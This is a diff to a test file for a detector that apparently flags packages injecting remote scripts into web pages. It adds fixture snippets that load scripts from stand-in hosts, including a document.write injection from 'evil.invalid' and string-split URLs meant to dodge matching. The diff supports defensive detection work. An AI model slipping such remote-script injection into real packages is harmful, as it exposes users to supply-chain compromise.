@@ -6,8 +6,23 @@ examine(loadsRemoteScript, {
     {
       when: 'it is put into the page at import',
       files: { 'index.js': `const s = document.createElement('script'); s.src = 'https://cdn.invalid/x.js'; document.head.appendChild(s)` },
-      weight: 'weak',
+      weight: 'strong',
       says: ['cdn.invalid'],
+    },
+    {
+      when: 'it is the script of the service that the package is named for',
+      files: {
+        'package.json': { name: '@payments/loader' },
+        'index.js': `const s = document.createElement('script'); s.src = 'https://js.payments.invalid/v3'; document.head.appendChild(s)`,
+      },
+      weight: 'weak',
+    },
+    {
+      when: 'it comes from a mirror of the registry',
+      files: {
+        'index.js': `const s = document.createElement('script'); s.src = 'https://' + 'cdn.jsdelivr' + '.net/npm/x@1'; document.head.appendChild(s)`,
+      },
+      weight: 'weak',
     },
     {
       when: 'its address is encoded',
@@ -23,6 +38,12 @@ examine(loadsRemoteScript, {
       },
       weight: 'strong',
     },
+    {
+      when: 'it is written into the page',
+      files: { 'index.js': `document.write('<script src="https://evil.invalid/x.js"></scr' + 'ipt>')` },
+      says: ['evil.invalid'],
+      weight: 'strong',
+    },
   ],
   silent: [
     {
@@ -32,6 +53,10 @@ examine(loadsRemoteScript, {
     {
       when: 'the caller brings the address',
       files: { 'index.js': `exports.load = url => { const s = document.createElement('script'); s.src = url; document.head.append(s) }` },
+    },
+    {
+      when: 'a script of its own is written into the page',
+      files: { 'index.js': `document.write('<script src="/vendor/x.js"></scr' + 'ipt>')` },
     },
   ],
 });
